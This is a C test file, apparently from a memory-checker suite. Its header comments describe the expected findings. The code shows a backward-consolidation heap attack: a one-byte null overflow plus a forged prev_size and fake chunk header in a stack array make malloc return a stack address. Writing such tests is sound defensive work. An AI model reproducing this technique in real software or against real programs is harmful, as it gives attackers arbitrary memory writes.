/* The size of the piece before is forged to be the distance to the stack, and a null byte says that it is free: the
 * merged chunk begins in a local array.
 *
 * Broken: a write of one byte behind the end of a piece.
 * Impossible: malloc returns an address on the stack.
 *
 * expect rule overflow
 * expect sign elsewhere
 * expect ends exit 0
 */
#include "chunk.h"

int main(void)
{
    _Alignas(16) size_t local[0x540 / 8] = {0};
    size_t *before = malloc(0x28), *victim = malloc(0x4f8);
    size_t distance = (size_t)chunk_of(victim) - (size_t)local;
    void *piece;

    malloc(24);
    local[1] = distance;
    local[2] = local[3] = (size_t)local;
    before[4] = distance;
    ((char *)before)[0x28] = 0;                         /* deed */
    free(victim);
    local[1] = 0x501;                                   /* a size that malloc believes */
    local[0x500 / 8] = 0x500;
    local[0x508 / 8] = 0x20;
    piece = malloc(0x4f8);                              /* impossible */
    fact("impossible", piece == local + 2);
    return 0;
}
